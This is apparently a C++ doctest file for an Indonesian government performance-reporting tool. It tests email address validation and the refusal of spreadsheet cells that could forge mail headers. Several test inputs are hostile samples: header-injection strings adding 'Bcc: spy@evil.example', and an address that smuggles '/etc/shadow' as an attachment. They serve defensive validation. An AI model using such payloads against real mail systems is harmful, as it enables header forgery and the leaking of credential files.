// What may reach an email's header: addresses by the strict dot-atom grammar, texts without
// control characters, and the cells of the master that hold them (Pengaturan's agency and Kontak
// Bidang, the PK's bidang) refused by file and cell when they break the rules.
#include <doctest/doctest.h>

#include "core/agreement.hpp"
#include "core/mail_fields.hpp"
#include "core/master_settings.hpp"

using namespace kinerja::core;

TEST_CASE("addresses: dot-atom local part and a domain of letter-ended labels, nothing else") {
  CHECK(valid_email_address("ani@contoh.go.id"));
  CHECK(valid_email_address("a.b@c.go.id"));
  CHECK(valid_email_address("ani+tw2@satpolpp.contoh.go.id"));
  CHECK(valid_email_address("x_y-z@a-b.id"));
  CHECK(valid_email_address("o/k=1{a}|b~c^d`e!#$%*@c.id"));
  CHECK(valid_email_address("ANI@CONTOH.GO.ID"));
  CHECK(valid_email_address("1@2a.id"));
  CHECK(valid_email_address(std::string(64, 'a') + "@c.id"));

  CHECK_FALSE(valid_email_address(""));
  CHECK_FALSE(valid_email_address("ani satpolpp"));
  CHECK_FALSE(valid_email_address("a@b@c.id"));
  CHECK_FALSE(valid_email_address("@c.id"));
  CHECK_FALSE(valid_email_address("a@"));
  CHECK_FALSE(valid_email_address("nama@desa"));  // one label
  CHECK_FALSE(valid_email_address("a b@c.id"));
  CHECK_FALSE(valid_email_address(".a@c.id"));
  CHECK_FALSE(valid_email_address("a.@c.id"));
  CHECK_FALSE(valid_email_address("a..b@c.id"));
  CHECK_FALSE(valid_email_address("a@-c.id"));
  CHECK_FALSE(valid_email_address("a@c-.id"));
  CHECK_FALSE(valid_email_address("a@c..id"));
  CHECK_FALSE(valid_email_address("a@.c.id"));
  CHECK_FALSE(valid_email_address("a@c.id."));
  CHECK_FALSE(valid_email_address("a@c.i2"));  // the last label is letters only
  CHECK_FALSE(valid_email_address("a@c.i-d"));
  CHECK_FALSE(valid_email_address("a@c_d.id"));
  CHECK_FALSE(valid_email_address("a@[10.0.0.1]"));
  CHECK_FALSE(valid_email_address("o'brien@c.id"));  // RFC 5322 allows it; a shell command line must not see it
  CHECK_FALSE(valid_email_address("x'@y.z?attach=/etc/shadow&bcc=spy@evil.example"));
  CHECK_FALSE(valid_email_address("a&b@c.id"));
  CHECK_FALSE(valid_email_address("a?b@c.id"));
  CHECK_FALSE(valid_email_address("\"a b\"@c.id"));
  CHECK_FALSE(valid_email_address("<a@c.id>"));
  CHECK_FALSE(valid_email_address("a@c.id>"));
  CHECK_FALSE(valid_email_address("a@c.id,b@c.id"));
  CHECK_FALSE(valid_email_address("a@c.id\r\nBcc: spy@evil.example"));
  CHECK_FALSE(valid_email_address("a@c.id "));
  CHECK_FALSE(valid_email_address("\xC3\xA1ni@c.id"));  // "áni"
  CHECK_FALSE(valid_email_address(std::string(65, 'a') + "@c.id"));
  CHECK_FALSE(valid_email_address("a@" + std::string(64, 'c') + ".id"));  // a label of 64
}

TEST_CASE("control characters: C0, DEL, C1 and the Unicode line separators, a body may keep newline and tab") {
  CHECK_FALSE(has_control_character("Ani Lestari, S.E. <Kabid> \"Bu\""));
  CHECK_FALSE(has_control_character("Bidang Ketenteraman dan Ketertiban Umum \xC3\xA9"));  // é
  CHECK(has_control_character("Ani\nBcc: spy@evil.example"));
  CHECK(has_control_character("Ani\rX"));
  CHECK(has_control_character("Ani\tX"));
  CHECK(has_control_character(std::string("Ani\0X", 5)));
  CHECK(has_control_character("Ani\x7FX"));
  CHECK(has_control_character("Ani\xC2\x85X"));      // NEL
  CHECK(has_control_character("Ani\xE2\x80\xA8X"));  // LINE SEPARATOR
  CHECK(has_control_character("Ani\xE2\x80\xA9X"));  // PARAGRAPH SEPARATOR
  CHECK_FALSE(has_control_character("Yth. Ani,\n\n\tTerima kasih.", "\n\t"));
  CHECK(has_control_character("Yth. Ani,\r\nBcc: x", "\n\t"));

  CHECK(visible_text("Ani\nBcc: spy@evil.example") == "Ani↵Bcc: spy@evil.example");
  CHECK(visible_text("a\tb") == "a�b");
  CHECK(visible_text("abcdef", 4) == "abcd…");
  CHECK(visible_text("\xC3\xA9\xC3\xA9\xC3\xA9", 5) == "\xC3\xA9\xC3\xA9…");  // never half an é
}

namespace {

// A Pengaturan sheet with its agency and one Kontak Bidang row; the contact is on row 25 (the
// title and 12 settings, a blank, the scale's title and header, 5 bands, a blank, the
// contacts' title and header).
SettingsReading settings_with(const std::string& agency, const DivisionContact& contact) {
  MasterSettings settings;
  settings.info.year = 2023;
  settings.info.agency = agency;
  settings.contacts = {contact, {"Bidang A", "Budi", "budi@contoh.go.id"}};
  return read_settings(settings_grid(settings));
}

}  // namespace

TEST_CASE("Pengaturan: a contact's name, bidang or address that could forge a header is named by its cell and refused") {
  const SettingsReading bcc = settings_with("Satpol PP", {"Sekretariat", "Ani\nBcc: spy@evil.example", "ani@contoh.go.id"});
  REQUIRE(bcc.problems.size() == 1);
  CHECK(bcc.problems[0].severity == Severity::warning);  // only this bidang's messages wait for it
  CHECK(bcc.problems[0].where == "Pengaturan!B25");
  CHECK(bcc.problems[0].message ==
        "Nama kontak Sekretariat berisi baris baru atau karakter kendali lain (\"Ani↵Bcc: spy@evil.example\"): tulis "
        "dalam satu baris tanpa karakter kendali; teks ini masuk ke kepala surel. Pesan untuk bidang ini tidak dibuat "
        "sampai diperbaiki.");
  CHECK(bcc.settings.contacts[0].name.empty());
  REQUIRE(bcc.settings.contacts[0].refused.has_value());
  CHECK(bcc.settings.contacts[0].refused->where == "Pengaturan!B25");
  CHECK(bcc.settings.contacts[1].name == "Budi");
  CHECK_FALSE(bcc.settings.contacts[1].refused.has_value());

  const SettingsReading subject = settings_with("Satpol PP", {"Sekretariat\nSubject: injected", "", "ani@contoh.go.id"});
  REQUIRE(subject.problems.size() == 1);
  CHECK(subject.problems[0].where == "Pengaturan!A25");
  CHECK(subject.settings.contacts.size() == 1);  // the row is left out
  CHECK(subject.settings.contacts[0].division == "Bidang A");

  const SettingsReading shell = settings_with("Satpol PP", {"Sekretariat", "Ani", "x'@y.z?attach=/etc/shadow&bcc=spy@evil.example"});
  REQUIRE(shell.problems.size() == 1);
  CHECK(shell.problems[0].severity == Severity::warning);
  CHECK(shell.problems[0].where == "Pengaturan!C25");
  CHECK(shell.problems[0].message ==
        "Surel \"x'@y.z?attach=/etc/shadow&bcc=spy@evil.example\" untuk Sekretariat bukan alamat surel yang dapat "
        "dipakai: tulis satu alamat seperti nama@contoh.go.id (sebelum @ hanya huruf, angka, titik dan tanda seperti "
        "- _ +; tanpa spasi, tanda petik, ?, & atau baris baru). Pesan untuk bidang ini tidak dibuat sampai diperbaiki.");
  CHECK(shell.settings.contacts[0].email.empty());
  REQUIRE(shell.settings.contacts[0].refused.has_value());
  CHECK(shell.settings.contacts[0].refused->where == "Pengaturan!C25");

  // Quotes, commas and angle brackets are no control characters: the message encodes them.
  const SettingsReading quoted = settings_with("Satpol PP", {"Sekretariat", "Ani \"Bu\" Lestari, <Kabid>", "ani@contoh.go.id"});
  CHECK(quoted.problems.empty());
  CHECK(quoted.settings.contacts[0].name == "Ani \"Bu\" Lestari, <Kabid>");
  CHECK_FALSE(quoted.settings.contacts[0].refused.has_value());
}

TEST_CASE("Pengaturan: an agency name with a line break is an error for Nama Instansi's cell") {
  const SettingsReading r = settings_with("Satpol PP\r\nBcc: spy@evil.example", {"Sekretariat", "Ani", ""});
  REQUIRE(r.problems.size() == 1);
  CHECK(r.problems[0].severity == Severity::error);
  CHECK(r.problems[0].where == "Pengaturan!B2");
  CHECK(r.problems[0].message.starts_with("Nama instansi berisi baris baru atau karakter kendali lain (\"Satpol PP↵↵Bcc: "));
  CHECK(r.settings.info.agency == "Satuan Polisi Pamong Praja");  // the default, never the forged one
}

TEST_CASE("PK: a bidang with a line break is an error for its cell and its indicator left out") {
  const Grid pk("PK", {{std::string("Kode"), std::string("Bidang"), std::string("Sasaran"), std::string("Indikator"),
                        std::string("Satuan"), std::string("Polaritas"), std::string("Agregasi"),
                        std::string("Jenis Target"), std::string("Target Tahunan"), std::string("Target TW I"),
                        std::string("Target TW II"), std::string("Target TW III"), std::string("Target TW IV")},
                       {std::string("SEK-01"), std::string("Sekretariat\nBcc: spy@evil.example"), std::string("S1"),
                        std::string("I1"), std::string("%"), std::string("positif"), std::string("last"),
                        std::string("per_tw"), Number{100}, Number{100}, Number{100}, Number{100}, Number{100}},
                       {std::string("SEK-02"), std::string("Sekretariat"), std::string("S1"), std::string("I2"),
                        std::string("%"), std::string("positif"), std::string("last"), std::string("per_tw"),
                        Number{100}, Number{100}, Number{100}, Number{100}, Number{100}}});
  const AgreementReading r = read_agreement(pk);
  REQUIRE(r.problems.size() == 1);
  CHECK(r.problems[0].severity == Severity::error);
  CHECK(r.problems[0].where == "PK!B2");
  CHECK(r.problems[0].message ==
        "Bidang berisi baris baru atau karakter kendali lain (\"Sekretariat↵Bcc: spy@evil.example\"): tulis dalam "
        "satu baris tanpa karakter kendali; teks ini masuk ke kepala surel.");
  REQUIRE(r.agreement.indicators.size() == 1);
  CHECK(r.agreement.indicators[0].code == "SEK-02");
}
